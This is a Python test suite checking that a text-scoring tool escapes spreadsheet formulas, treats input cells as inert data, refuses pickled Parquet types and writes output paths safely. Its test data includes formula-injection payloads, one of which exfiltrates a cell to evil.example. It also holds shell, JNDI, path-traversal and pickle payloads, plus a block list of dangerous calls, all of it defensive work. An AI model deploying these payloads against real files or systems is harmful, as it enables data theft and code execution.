"""Security of ``detente score``: formula escaping, inert cells, safe and atomic output paths."""

from __future__ import annotations

import ast
import csv
import hashlib
import json
import os
import pickle
import stat
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from model.classifier import Classifier
from model.errors import DataError
from serve.resume import ScoreWriteError
from serve.scoring import score_file

REPO = Path(__file__).resolve().parents[2]
SCORING_MODULES = [
    *(REPO / "serve" / f"{name}.py" for name in ("scoring", "scored_rows", "output_layout",
                                                 "score_job", "resume", "cli/score",
                                                 "ray_engine")),
    REPO / "model" / "long_text.py",
    *sorted((REPO / "training" / "tables").glob("*.py")),  # the readers and writers
]


@pytest.fixture(scope="module")
def backend(tiny_model_dir):
    return Classifier.load(tiny_model_dir)


def score(src: Path, out: Path, backend, **kwargs):
    return score_file(src, out, backend=backend, progress=False, **kwargs)


def read_csv(path: Path, sep: str = ",") -> list[dict]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle, delimiter=sep))


# ----------------------------------------------------------------------------- formulas

FORMULAS = {  # cell -> as written to CSV/TSV
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")": "'=HYPERLINK(\"http://evil.example/"
                                                           "?\"&A1, \"click\")",
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+1 555 0100 call now": "'+1 555 0100 call now",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "\n=1+1": "'\n=1+1",
    "\x00=1": "'\x00=1",
    "   =1+1": "'   =1+1",  # leading spaces: some spreadsheets trim them first
    " \f@x": "' \f@x",
    "-": "'-",
    "- a bullet point": "'- a bullet point",
    "-5": "-5",  # plain numbers are left alone
    "+1.5e3": "+1.5e3",
    "-.25": "-.25",
    "1=1": "1=1",  # only the first character (after white space) matters
    "a statement, with = inside": "a statement, with = inside",
    "'=already quoted": "'=already quoted",
    "": "",
}


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_csv_and_tsv_output_escape_formulas_in_cells_and_header(tmp_path, backend, fmt):
    cells = list(FORMULAS)
    src = tmp_path / "in.jsonl"
    src.write_text("".join(json.dumps({"text": c, "=note": c, "n": -1.5}) + "\n"
                           for c in cells), encoding="utf-8")
    out = tmp_path / f"out.{fmt}"
    score(src, out, backend)
    rows = read_csv(out, "\t" if fmt == "tsv" else ",")
    assert len(rows) == len(cells)
    assert list(rows[0])[:4] == ["id", "text", "'=note", "n"]  # the header is escaped too
    assert [r["text"] for r in rows] == [FORMULAS[c] for c in cells]
    assert [r["'=note"] for r in rows] == [FORMULAS[c] for c in cells]
    assert {r["n"] for r in rows} == {"-1.5"}  # numbers are numbers, not text
    scored = [float(r["sentiment_score"]) for r in rows if r["sentiment_score"]]
    assert scored and all(not r["sentiment_score"].startswith("'") for r in rows)


def test_jsonl_and_parquet_output_keep_cells_as_they_are(tmp_path, backend):
    cells = list(FORMULAS)
    src = tmp_path / "in.parquet"
    pq.write_table(pa.table({"text": cells}), src)
    score(src, tmp_path / "out.jsonl", backend)
    score(src, tmp_path / "out.parquet", backend)
    lines = (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["text"] for line in lines] == cells
    assert pq.read_table(tmp_path / "out.parquet").column("text").to_pylist() == cells


# ----------------------------------------------------------------------------- inert cells


def payloads(canary: Path) -> list[str]:
    """Cells that would do something if anything evaluated, executed or expanded them."""
    return [
        f"__import__('os').system('touch {canary}')",
        f"eval(\"open('{canary}', 'w')\")",
        f"$(touch {canary})",
        f"`touch {canary}`",
        f"; touch {canary} #",
        "{{7*7}} ${7*7} #{7*7} %(x)s {0.__class__}",
        "${jndi:ldap://127.0.0.1:1/a}",
        f"!!python/object/apply:os.system ['touch {canary}']",
        f"=cmd|' /C touch {canary}'!A0",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "%n%s%x%p" * 4,
    ]


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_cells_are_data_never_code(tmp_path, backend, fmt):
    canary = tmp_path / "canary"
    cells = payloads(canary)
    frame = pd.DataFrame({"text": cells, "__class__": cells, "id": [f"../{c}" for c in cells]})
    src = tmp_path / f"in.{fmt}"
    if fmt == "csv":
        frame.to_csv(src, index=False)
    elif fmt == "jsonl":
        frame.to_json(src, orient="records", lines=True, force_ascii=False)
    else:
        frame.to_parquet(src, index=False)
    for out_fmt in ("jsonl", "parquet", "csv"):
        result = score(src, tmp_path / f"out.{out_fmt}", backend)
        assert result.rows == len(cells) and result.errors == 0
    got = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert [g["text"] for g in got] == cells  # as given, character for character
    assert [g["__class__"] for g in got] == cells
    assert [g["id"] for g in got] == list(frame["id"])  # an id is never a path
    assert not canary.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        [src.name, "out.jsonl", "out.parquet", "out.csv"])


def test_a_parquet_column_with_a_pickled_type_is_never_unpickled(tmp_path, backend):
    canary = tmp_path / "canary"

    class Payload:
        def __reduce__(self):
            return (open, (str(canary), "w"))

    class Pickled(pa.ExtensionType):  # the shape of CVE-2023-47248's files; not registered
        def __init__(self):
            super().__init__(pa.string(), "arrow.py_extension_type")

        def __arrow_ext_serialize__(self):
            return pickle.dumps(Payload())

        @classmethod
        def __arrow_ext_deserialize__(cls, storage_type, serialized):
            return cls()

    storage = pa.array(["We are ready to talk.", "They shelled the port."])
    src = tmp_path / "in.parquet"
    pq.write_table(pa.table({"text": pa.ExtensionArray.from_storage(Pickled(), storage)}), src)
    mark = {b"ARROW:extension:name": b"arrow.py_extension_type"}.items()
    assert mark <= pq.read_schema(src).field("text").metadata.items()
    for fmt in ("parquet", "jsonl"):
        score(src, tmp_path / f"out.{fmt}", backend)
    assert not canary.exists()
    out = tmp_path / "out.parquet"
    assert pq.read_table(out).column("text").to_pylist() == storage.to_pylist()
    assert not pq.read_schema(out).field("text").metadata  # the payload is not passed on


def test_the_scoring_modules_evaluate_nothing():
    """No eval/exec/pickle/yaml/shell anywhere in the code that handles cells and files."""
    forbidden_modules = {"pickle", "marshal", "shelve", "yaml", "subprocess", "dill",
                         "cloudpickle", "runpy", "code"}
    forbidden_builtins = {"eval", "exec", "compile", "__import__", "breakpoint"}
    assert len(SCORING_MODULES) > 6
    for path in SCORING_MODULES:
        name = path.name
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, (ast.Import, ast.ImportFrom)):
                modules = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
                assert not {m.split(".")[0] for m in modules} & forbidden_modules, (name, modules)
            if isinstance(node, ast.Call):
                func = node.func
                if isinstance(func, ast.Name):
                    assert func.id not in forbidden_builtins, (name, func.id)
                elif isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name):
                    call = f"{func.value.id}.{func.attr}"
                    assert not call.startswith(("os.system", "os.popen", "os.exec", "os.spawn",
                                                "pd.eval", "np.load")), (name, call)


# ----------------------------------------------------------------------------- output paths


def test_output_must_be_a_regular_file(tmp_path, backend):
    src = tmp_path / "in.csv"
    src.write_text("text\nWe are ready to talk.\n")
    with pytest.raises(DataError, match="is not a regular file"):
        score(src, Path("/dev/null"), backend, output_fmt="csv")
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)  # still the device
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    with pytest.raises(DataError, match="is not a regular file"):
        score(src, fifo, backend)
    with pytest.raises(DataError, match="is the input file"):
        score(src, tmp_path / "." / "in.csv", backend)
    with pytest.raises(DataError, match="is a folder"):
        score(src, tmp_path, backend, output_fmt="csv")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "pipe.csv"]


def test_links_planted_beside_the_output_are_never_written_through(tmp_path, backend):
    src = tmp_path / "in.csv"
    src.write_text("text\nWe are ready to talk.\n")
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "part-000000.parquet").write_text("precious")
    (victim / "notes.txt").write_text("precious")
    out = tmp_path / "out.csv"
    (tmp_path / "out.csv.parts").symlink_to(victim)  # the work folder, planted as a link
    with pytest.raises(ScoreWriteError, match="is a symbolic link"):
        score(src, out, backend)
    assert sorted(p.name for p in victim.iterdir()) == ["notes.txt", "part-000000.parquet"]
    assert (victim / "part-000000.parquet").read_text() == "precious"
    assert not out.exists()

    (tmp_path / "out.csv.parts").unlink()
    out.symlink_to(victim / "notes.txt")  # the output itself is a link: replaced, not followed
    score(src, out, backend)
    assert not out.is_symlink() and len(read_csv(out)) == 1
    assert (victim / "notes.txt").read_text() == "precious"


@pytest.mark.slow
def test_the_output_appears_all_at_once_while_a_run_is_in_progress(tmp_path, tiny_model_dir):
    rows = 3000
    src = tmp_path / "in.csv"
    pd.DataFrame({"text": [f"Statement {i}: we are ready to talk, said officials."
                           for i in range(rows)]}).to_csv(src, index=False)
    out = tmp_path / "out.csv"
    out.write_text("the previous output\n")
    old = hashlib.sha256(out.read_bytes()).hexdigest()
    proc = subprocess.Popen(
        [sys.executable, "-m", "serve.cli", "score", str(src), "-o", str(out), "--model",
         str(tiny_model_dir), "--backend", "torch", "--chunk-size", "100", "--no-progress"],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env={**os.environ,
                                                                "OMP_NUM_THREADS": "1"},
    )
    seen: set[str] = set()
    polls = 0
    deadline = time.monotonic() + 300
    while proc.poll() is None and time.monotonic() < deadline:
        seen.add(hashlib.sha256(out.read_bytes()).hexdigest())  # never missing, never partial
        polls += 1
        time.sleep(0.002)
    _, stderr = proc.communicate(timeout=60)
    assert proc.returncode == 0, stderr
    final = out.read_bytes()
    assert len(final.decode().splitlines()) == rows + 1
    assert seen <= {old, hashlib.sha256(final).hexdigest()}
    assert old in seen and polls > 50  # the old file was there, whole, while the run went on
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp") or
                p.name.endswith(".parts")]
